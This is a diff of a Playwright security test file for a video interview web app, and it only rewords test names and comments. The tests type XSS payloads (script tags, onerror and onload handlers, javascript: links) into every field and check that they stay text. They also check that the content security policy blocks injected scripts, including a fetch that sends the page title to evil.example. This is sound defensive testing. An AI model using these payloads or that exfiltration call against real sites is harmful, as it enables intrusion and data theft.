@@ -5,10 +5,7 @@ import type { RunningProduct } from './support/product.ts';
 
 test.describe.configure({ mode: 'parallel' });
 
-test('the API documentation is shown under its policy, without a complaint of the browser', async ({
-  page,
-  signIn,
-}) => {
+test('the API documentation is shown under its policy without console errors', async ({ page, signIn }) => {
   await signIn();
   await page.goto('/api/docs');
   await expect(page.getByRole('heading', { name: /Video Interview Management/ })).toBeVisible();
@@ -16,11 +13,11 @@ test('the API documentation is shown under its policy, without a complaint of th
   await expect(page.getByRole('button', { name: 'Try it out' })).toBeVisible();
 });
 
-/** Markup that runs wherever it is taken for markup. */
+/** Runs if it is ever parsed as markup. */
 const HOSTILE = `"'><img src=x onerror="attacked=1"><script>attacked=1</script><svg onload="attacked=1"><a href="javascript:attacked=1">`;
 const SHORT = '<img src=x onerror="attacked=1">';
 
-/** An interview and a funnel of which every word that can be shown is markup. */
+/** Creates an interview and a funnel with markup in every displayed field. */
 async function hostileInterview({ recruiter, sandbox }: RunningProduct): Promise<Interview> {
   const [first, ...others] = sandbox.control.interviews('warehouse');
   for (const { id } of others) sandbox.control.remove('warehouse', id);
@@ -55,7 +52,7 @@ async function hostileInterview({ recruiter, sandbox }: RunningProduct): Promise
   return interview;
 }
 
-/** Everything that ran, and everything that the policy had to stop, on any page of the context. */
+/** Records scripts that ran and policy violations on all pages of the context. */
 async function watchScripts(context: BrowserContext): Promise<() => Promise<unknown[]>> {
   const violations: unknown[] = [];
   await context.exposeBinding('reportViolation', (_, violation) => void violations.push(violation));
@@ -98,7 +95,7 @@ async function openEverythingOf(page: Page): Promise<void> {
   }
 }
 
-test('markup in everything that people and services write stays text, on every screen', async ({
+test('markup from users and services is shown as text on every screen', async ({
   page,
   context,
   product,
@@ -110,7 +107,7 @@ test('markup in everything that people and services write stays text, on every s
   await hostileInterview(product);
   const stopped = await watchScripts(context);
 
-  // What somebody types at the door stands in the log.
+  // The log contains the input of the sign-in form.
   await page.goto('/login');
   await page.getByLabel('Username').fill(HOSTILE);
   await page.getByLabel('Password').fill(HOSTILE);
@@ -143,12 +140,8 @@ test('markup in everything that people and services write stays text, on every s
   expect(await stopped()).toEqual([]);
 });
 
-test('a script that got onto a page in spite of all that does not run, and reaches nobody', async ({
-  browser,
-  product,
-  signIn,
-}) => {
-  // A browser of its own: here the console complains, and shall.
+test('an injected script does not run and sends nothing', async ({ browser, product, signIn }) => {
+  // Uses a separate browser context, because console errors are expected here.
   const context = await browser.newContext({ baseURL: product.address });
   await signIn(context);
   const stopped = await watchScripts(context);
@@ -159,11 +152,11 @@ test('a script that got onto a page in spite of all that does not run, and reach
     'markup that becomes nodes': `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="attacked=1">')`,
     'a string that becomes code': `new Function('attacked = 1')()`,
     'a script of another site': `Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })`,
-    'a policy of its own': `trustedTypes.createPolicy('evil', {})`,
+    'a new policy': `trustedTypes.createPolicy('evil', {})`,
     'a message to another site': `await fetch('https://evil.example/?' + document.title)`,
   };
   for (const [attempt, code] of Object.entries(attempts)) {
-    // After a turn of its own: what a test asks a page directly is free of the page's policy.
+    // In a timeout: code that Playwright evaluates directly is exempt from the page's policy.
     const tried = `new Promise((resolve) => setTimeout(async () => {
       try { ${code}; resolve('done'); } catch { resolve('refused'); }
     }))`;
